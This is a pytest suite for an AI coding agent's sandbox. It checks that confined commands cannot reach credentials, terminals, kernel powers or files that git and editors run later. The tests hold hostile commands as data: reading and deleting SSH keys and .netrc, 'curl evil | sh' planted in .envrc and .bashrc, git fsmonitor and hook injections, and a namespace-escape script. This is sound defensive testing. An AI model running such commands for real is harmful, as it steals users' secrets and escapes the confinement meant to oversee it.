"""What a confined command may not reach, on the real kernel: the agent's own files and the user's
credentials, the user's other terminals, the powers root keeps in its namespace, and whatever git and
editors would run later, outside the sandbox. Each test is an attack a hostile repository or model would
try, run on both paths a command takes (:mod:`tests.support.sandboxed`), and fails without the defence it
names."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from refagent.sandbox.confine import run_later
from refagent.sandbox.confine.confinement import Confinement, hidden_paths
from refagent.sandbox.confine.process import LocalTerminals
from tests.support.sandboxed import CONFINED, SUPPORT, Sandboxed, box, outside

__all__ = ["box", "outside"]  # fixtures, found by name

pytestmark = CONFINED

GIT = "git -c user.name=t -c user.email=t@example.com"


def needs_git() -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")


def git(cwd: Path, *args: str) -> str:
    """git run here, unconfined, as the user would run it later."""
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=False)
    return done.stdout + done.stderr


# -- the agent's files and the user's credentials ------------------------------------------------------


@pytest.fixture
def home(outside: Path) -> Path:
    """A user's home with the agent's files and credentials in it, each holding the word SECRET."""
    home = outside / "home"
    files = [
        ".config/refagent/config.toml",
        ".local/share/refagent/sessions/abc/record.jsonl",
        ".local/state/refagent/chat_history",
        ".cache/refagent/x",
        ".ssh/id_ed25519",
        ".netrc",
        ".aws/credentials",
        ".config/gh/hosts.yml",
        ".docker/config.json",
        ".gnupg/private-keys-v1.d/key",
        ".codex/auth.json",
        ".cargo/credentials.toml",
    ]
    for name in files:
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("SECRET\n")
    (home / ".bashrc").write_text("ordinary\n")
    return home


def hidden_box(workspace: Path, home: Path, private: list[str] = ()) -> tuple[LocalTerminals, Confinement]:  # type: ignore[assignment]
    env = {"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    confinement = Confinement([str(workspace)], SUPPORT, env=env, private=private)
    return LocalTerminals(confinement=confinement, env=env), confinement


@pytest.mark.parametrize("level", ["workspace", "network"])
async def test_the_agents_files_and_the_users_credentials_cannot_be_read(
    tmp_path: Path, home: Path, outside: Path, level: str
) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    log = outside / "agent.log"
    log.write_text("SECRET\n")
    terminals, confinement = hidden_box(workspace, home, [str(log)])
    try:
        result = await terminals.run(
            f"grep -r SECRET {home} {log}; cat ~/.netrc ~/.config/refagent/config.toml; "
            f"ls -A ~/.ssh ~/.local/share/refagent; cat ~/.bashrc; "
            f"rm -rf ~/.ssh; echo x > ~/.netrc; mv ~/.config/refagent {workspace}/taken; echo end",
            str(workspace),
            30,
            sandbox=level,  # type: ignore[arg-type]
        )
    finally:
        confinement.close()
    assert "SECRET" not in result.output, result.output
    assert "ordinary" in result.output  # the rest of the home is still there to read
    assert result.output.rstrip().endswith("end")
    assert (home / ".ssh" / "id_ed25519").read_text() == "SECRET\n"  # nothing removed or changed either
    assert (home / ".netrc").read_text() == "SECRET\n"
    taken = workspace / "taken"
    assert not taken.exists() or list(taken.iterdir()) == []  # mv could only copy the empty stand-in


async def test_an_agent_socket_in_the_home_cannot_be_reached(tmp_path: Path, home: Path) -> None:
    """An SSH agent's socket outside /run and /tmp (1Password's, say): named by ``SSH_AUTH_SOCK``, hidden."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    path = home / ".agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    env = {"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "SSH_AUTH_SOCK": str(path)}
    confinement = Confinement([str(workspace)], SUPPORT, env=env)
    try:
        connect = f"import socket; socket.socket(socket.AF_UNIX).connect('{path}'); print('connected')"
        result = await LocalTerminals(confinement=confinement, env=env).run(
            f'{sys.executable} -c "{connect}"',
            str(workspace),
            30,
            sandbox="network",
        )
    finally:
        confinement.close()
        server.close()
    assert "connected" not in result.output


async def test_level_none_reads_them(tmp_path: Path, home: Path) -> None:
    """The test's secrets are real files: unconfined, the same command reads them."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    terminals, confinement = hidden_box(workspace, home)
    try:
        result = await terminals.run("cat ~/.netrc ~/.config/refagent/config.toml", str(workspace), 30, sandbox="none")
    finally:
        confinement.close()
    assert result.output == "SECRET\nSECRET\n"


def test_what_is_hidden(tmp_path: Path, home: Path) -> None:
    workspace = tmp_path / "ws"
    moved = home.parent / "xdg"  # not under /tmp: commands have a /tmp of their own, the host's is hidden
    (moved / "refagent").mkdir(parents=True)
    (moved / "gh").mkdir()
    env = {"HOME": str(home), "XDG_CONFIG_HOME": str(moved), "REFAGENT_CONFIG": str(home / ".netrc")}
    hidden = hidden_paths(env, [str(workspace)], [str(home / "missing.toml")])
    assert str(moved / "refagent") in hidden  # where XDG_CONFIG_HOME moves the configuration
    assert str(moved / "gh") in hidden
    assert str(home / ".config" / "refagent") not in hidden  # not the agent's once the variable moves it
    assert str(home / ".local" / "share" / "refagent") in hidden
    assert str(home / ".ssh") in hidden
    assert str(home / "missing.toml") not in hidden  # only what exists
    assert len(hidden) == len(set(hidden))
    kube = [home.parent / "kube-a", home.parent / "kube-b"]
    for path in kube:
        path.write_text("token\n")
    named = hidden_paths({"KUBECONFIG": f"{kube[0]}:{kube[1]}", "GNUPGHOME": str(home / ".gnupg")}, [])
    assert named == [str(kube[0]), str(kube[1]), str(home / ".gnupg")]
    # A root inside a credential directory: the user works there, it stays visible.
    assert str(home / ".ssh") not in hidden_paths({"HOME": str(home)}, [str(home / ".ssh" / "work")])


# -- terminals and devices -------------------------------------------------------------------------------


@pytest.fixture
def user_terminal() -> Iterator[str]:
    """A pseudo-terminal of the user's (as a terminal emulator holds one): its path, /dev/pts/N."""
    main, secondary = os.openpty()
    try:
        yield os.ttyname(secondary)
    finally:
        os.close(main)
        os.close(secondary)


async def test_the_users_terminals_cannot_be_opened(box: Sandboxed, user_terminal: str) -> None:
    result = await box.sh(
        f"ls /dev/pts; printf '\\033]52;c;cHduZWQ=\\a' > {user_terminal} && echo wrote; "
        f"head -c1 < {user_terminal} && echo read; ls /dev"
    )
    assert "wrote" not in result.output
    assert "read" not in result.output
    assert os.path.basename(user_terminal) not in result.output.split("\n", 1)[0].split()
    devices = set(result.output.split("\n", 2)[-1].split())
    assert not {"console", "tty0", "tty1", "kmsg", "mem", "sda", "vda", "nvme0n1"} & devices


async def test_a_command_has_pseudo_terminals_of_its_own(box: Sandboxed) -> None:
    result = await box.sh(
        f'{sys.executable} -c \'import os; m, s = os.openpty(); os.write(s, b"hi\\n"); '
        f"print(os.ttyname(s), os.read(m, 10))'"
    )
    assert result.exit_code == 0, result.output
    assert result.output.startswith("/dev/pts/0 b'hi\\r\\n'"), result.output


# -- root in the namespace, without Landlock -----------------------------------------------------------

NESTED = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
if libc.unshare(0x10000000 | 0x00020000) != 0:  # a user and a mount namespace of its own
    sys.exit("unshare: " + os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
    with open(f"/proc/self/{name}", "w") as file:
        file.write(text)
print("umount", libc.umount2(b"/tmp", 2), "remount", libc.mount(None, b"/", None, 0x20 | 0x1000, None))
open(sys.argv[1], "w").write("escaped")
"""


@pytest.fixture(params=["landlock", "no-landlock"])
async def rooted(request: pytest.FixtureRequest, tmp_path: Path, outside: Path) -> Iterator[Sandboxed]:
    """A box whose namespaces hold alone (``REFAGENT_SANDBOX_DISABLE=landlock``), or with Landlock."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    support = SUPPORT.without(["landlock"]) if request.param == "no-landlock" else SUPPORT
    confinement = Confinement([str(workspace)], support)
    try:
        yield Sandboxed(LocalTerminals(confinement=confinement), confinement, workspace, outside)
    finally:
        confinement.close()


async def test_root_keeps_no_power_to_unmount_or_remount(rooted: Sandboxed) -> None:
    escape = rooted.outside / "escaped"
    result = await rooted.sh(
        f"grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status; umount -l /tmp; mount -o remount,bind,rw /; "
        f"mount -t tmpfs none {rooted.outside}; echo x > {escape}; echo 1 > /proc/sys/kernel/hostname; "
        f"echo 1 > /proc/sys/vm/drop_caches; hostname"
    )
    capabilities = [line.split() for line in result.output.splitlines() if line.startswith("Cap")]
    assert len(capabilities) == 4
    assert all(int(value, 16) == 0 for _, value in capabilities), capabilities
    assert not escape.exists()
    assert os.uname().nodename in result.output  # the host's name is unchanged


async def test_a_nested_user_namespace_cannot_detach_what_holds_it(rooted: Sandboxed) -> None:
    (rooted.workspace / "nested.py").write_text(NESTED)
    escape = rooted.outside / "escaped"
    await rooted.sh(f"{sys.executable} nested.py {escape}; echo x > {escape}")
    assert not escape.exists()


# -- git, run later by the user --------------------------------------------------------------------------


@pytest.fixture
async def repo(box: Sandboxed) -> Sandboxed:
    needs_git()
    done = await anyio.run_process(f"git init -q . && {GIT} commit -q --allow-empty -m base", cwd=box.workspace)
    assert done.returncode == 0
    return box


async def test_a_repository_can_be_read_but_not_changed(repo: Sandboxed) -> None:
    """The whole ``.git`` is read-only: configuration, hooks, a new ``commondir`` (which points git at a
    configuration elsewhere), commits; and ``.git`` cannot be replaced."""
    config = (repo.workspace / ".git" / "config").read_text()
    result = await repo.sh(
        "git status --short; git log --format=%s; "
        "echo '[core]' >> .git/config; git config core.fsmonitor 'touch pwned'; "
        "mkdir -p evil && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config && "
        "echo ../evil > .git/commondir; "
        "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit; "
        "mv .git .git-old; rm -rf .git; "
        f"echo hi > f && git add f && {GIT} commit -qm second; echo end"
    )
    assert result.output.startswith("?? ") or "base" in result.output.splitlines()[0:2], result.output
    assert "base" in result.output
    assert (repo.workspace / ".git" / "config").read_text() == config
    assert not (repo.workspace / ".git" / "commondir").exists()
    assert not (repo.workspace / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo.workspace / ".git-old").exists()
    assert git(repo.workspace, "log", "--format=%s").split() == ["base"]  # committing needs level none
    git(repo.workspace, "status")
    assert not (repo.workspace / "pwned").exists()


async def test_git_init_at_a_root_is_moved_aside(box: Sandboxed) -> None:
    needs_git()
    result = await box.sh("git init -q . && git config core.fsmonitor 'touch pwned'")
    assert result.exit_code == 0, result.output
    assert not (box.workspace / ".git").exists()
    assert (box.workspace / ".git.refagent-blocked" / "config").exists()  # moved, not deleted
    assert f"moved {box.workspace}/.git to {box.workspace}/.git.refagent-blocked" in result.output
    git(box.workspace, "status")
    assert not (box.workspace / "pwned").exists()


async def test_a_git_file_cannot_be_rewritten(box: Sandboxed) -> None:
    """A submodule's or a linked worktree's ``.git`` is a file that names the repository: held too."""
    needs_git()
    for name in (".git", "sub/.git"):
        (box.workspace / name).parent.mkdir(exist_ok=True)
        (box.workspace / name).write_text("gitdir: /nowhere/real\n")
    result = await box.sh(
        "mkdir evil && git init -q --bare evil/repo && git --git-dir=evil/repo config core.fsmonitor 'touch pwned'; "
        "echo 'gitdir: evil/repo' > .git; echo 'gitdir: ../evil/repo' > sub/.git; rm -f sub/.git; echo end"
    )
    assert "end" in result.output
    assert (box.workspace / ".git").read_text() == "gitdir: /nowhere/real\n"
    assert (box.workspace / "sub" / ".git").read_text() == "gitdir: /nowhere/real\n"


async def test_nested_repositories_within_the_bound(repo: Sandboxed) -> None:
    """Every ``.git`` up to :data:`run_later.DEPTH` directories down is held, and one the command makes there
    is moved aside; deeper, a new repository stays (the stated bound)."""
    nested = repo.workspace / "vendor" / "lib"
    nested.mkdir(parents=True)
    await anyio.run_process("git init -q .", cwd=nested)
    config = (nested / ".git" / "config").read_text()
    deep = "a/b/c/d"
    result = await repo.sh(
        "git -C vendor/lib config core.fsmonitor 'touch pwned'; "
        f"mkdir -p new/x {deep} && git init -q new/x && git init -q {deep}; echo end"
    )
    assert "end" in result.output
    assert (nested / ".git" / "config").read_text() == config
    assert not (repo.workspace / "new" / "x" / ".git").exists()
    assert (repo.workspace / "new" / "x" / ".git.refagent-blocked").is_dir()
    assert (repo.workspace / deep / ".git").is_dir()  # beyond the bound: said in docs/sandbox.md


async def test_hooks_and_includes_the_configuration_names_inside_the_root(repo: Sandboxed) -> None:
    """``core.hooksPath`` and ``include.path`` can point into the working tree (husky does): held too, and
    a hooks directory the configuration names but that does not exist yet is moved aside once made."""
    hooks = repo.workspace / ".githooks"
    hooks.mkdir()
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (repo.workspace / "repo.gitconfig").write_text("[alias]\n\tst = status\n")
    with (repo.workspace / ".git" / "config").open("a") as file:
        file.write("[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../repo.gitconfig\n")
    result = await repo.sh(
        "echo 'touch pwned' >> .githooks/pre-commit; echo x > .githooks/post-checkout; "
        "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> repo.gitconfig; echo end"
    )
    assert "end" in result.output
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert not (hooks / "post-checkout").exists()
    assert "fsmonitor" not in (repo.workspace / "repo.gitconfig").read_text()


async def test_what_is_made_is_moved_aside_even_when_the_command_is_killed(tmp_path: Path) -> None:
    """The sweep runs in the namespace's init, which a kill of the command's process group does not reach."""
    needs_git()
    workspace = tmp_path / "ws"
    workspace.mkdir()
    confinement = Confinement([str(workspace)], SUPPORT)
    terminals = LocalTerminals(confinement=confinement, kill_grace=0.2)
    try:
        with anyio.fail_after(10):
            result = await terminals.run("trap '' TERM; git init -q . && sleep 60", str(workspace), 0.5)
    finally:
        confinement.close()
    assert result.timed_out
    assert not (workspace / ".git").exists()
    assert (workspace / ".git.refagent-blocked").is_dir()


# -- files editors and tools run later -------------------------------------------------------------------


async def test_editor_files_are_held_and_new_ones_moved_aside(box: Sandboxed) -> None:
    vscode = box.workspace / ".vscode"
    vscode.mkdir()
    (vscode / "settings.json").write_text("{}\n")
    result = await box.sh(
        'echo \'{"runOn": "folderOpen"}\' > .vscode/tasks.json; echo \'{"x": 1}\' > .vscode/settings.json; '
        "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; "
        "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml; echo ordinary > notes.txt"
    )
    assert not (vscode / "tasks.json").exists()
    assert (vscode / "settings.json").read_text() == "{}\n"
    for made in (".envrc", ".mcp.json", ".github/workflows"):
        assert not (box.workspace / made).exists(), made
        assert (box.workspace / f"{made}.refagent-blocked").exists(), made
        assert f"moved {box.workspace}/{made} to" in result.output
    assert (box.workspace / ".github").is_dir()  # only what runs is moved: the rest stays
    assert (box.workspace / "notes.txt").read_text() == "ordinary\n"


async def test_level_none_may_make_them(box: Sandboxed) -> None:
    needs_git()
    result = await box.sh("git init -q . && echo x > .envrc", "none")
    assert result.exit_code == 0
    assert (box.workspace / ".git").is_dir()
    assert (box.workspace / ".envrc").exists()


# -- the walk and the configuration reader, without a sandbox -------------------------------------------


def test_the_nested_walk_is_bounded(tmp_path: Path) -> None:
    for path in ("a/.git", "a/b/c/.git", "a/b/c/d/.git", "node_modules/x/.git", "m/.git/inner/.git"):
        (tmp_path / path).mkdir(parents=True)
    (tmp_path / "f" / "sub").mkdir(parents=True)
    (tmp_path / "f" / "sub" / ".git").write_text("gitdir: x\n")
    (tmp_path / "link").symlink_to(tmp_path / "a")
    found = sorted(os.path.relpath(path, tmp_path) for path in run_later.nested_repositories(str(tmp_path)))
    assert found == ["a/.git", "a/b/c/.git", "f/sub/.git", "m/.git"]


def test_the_configuration_reader(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    root = tmp_path / "ws"
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "config").write_text(
        '[core]\n\tbare = false\n\thooksPath = "tools/hooks" ; a comment\n'
        '[includeIf "gitdir:~/"]\n\tpath = ../common.inc\n[alias]\n\tpath = not-an-include\n'
    )
    (root / "common.inc").write_text("[include]\n\tpath = more.inc\n")
    (home / ".gitconfig").write_text(f"[core]\n\thooksPath = {home}/hooks\n[include]\n\tpath = {root}/user.inc\n")
    os.mkfifo(root / "more.inc")  # a FIFO must not block the reader
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    found = run_later.configured([str(root)])
    assert found == [
        str(root / "tools" / "hooks"),
        str(root / "common.inc"),
        str(root / "more.inc"),
        str(root / "user.inc"),
    ]


async def test_a_home_as_root_keeps_its_start_up_files(tmp_path: Path) -> None:
    """A session in ``$HOME``: the shell's start-up files and git's own configuration run later too."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    confinement = Confinement([str(home)], SUPPORT, env={"HOME": str(home)})
    try:
        result = await LocalTerminals(confinement=confinement).run(
            "echo 'curl evil | sh' >> .bashrc; printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .gitconfig; "
            "echo ordinary > notes.txt",
            str(home),
            30,
        )
    finally:
        confinement.close()
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (home / ".gitconfig").exists()
    assert (home / ".gitconfig.refagent-blocked").exists()
    assert f"moved {home}/.gitconfig" in result.output
    assert (home / "notes.txt").read_text() == "ordinary\n"


async def test_the_agents_own_code_and_interpreter_are_read_only_in_a_root() -> None:
    """A checkout of refagent used on itself: a command at ``workspace`` writes in the checkout, but not
    in the agent's package, nor in the environment it runs from (a ``.pth`` file there runs at every start
    of refagent, unconfined), nor around them."""
    from refagent.sandbox.confine.confinement import own_code

    package, environment = own_code()[:2]
    root = os.path.commonpath([package, environment])
    confinement = Confinement([root], SUPPORT)
    probe = "refagent-trust-probe"
    try:
        result = await LocalTerminals(confinement=confinement).run(
            f"touch {package}/{probe} || echo refused; touch {environment}/{probe}.pth || echo refused; "
            # Were it not held, the rename is undone at once: the suite runs from this very checkout.
            f"(mv {package} {package}-moved && mv {package}-moved {package}) || echo refused; "
            f"touch {root}/{probe} && echo wrote",
            root,
            30,
        )
    finally:
        confinement.close()
        for leftover in (f"{package}/{probe}", f"{environment}/{probe}.pth", f"{root}/{probe}"):
            with contextlib.suppress(FileNotFoundError):
                os.unlink(leftover)
    assert result.output.count("refused") == 3, result.output
    assert "wrote" in result.output  # the rest of the checkout is the workspace
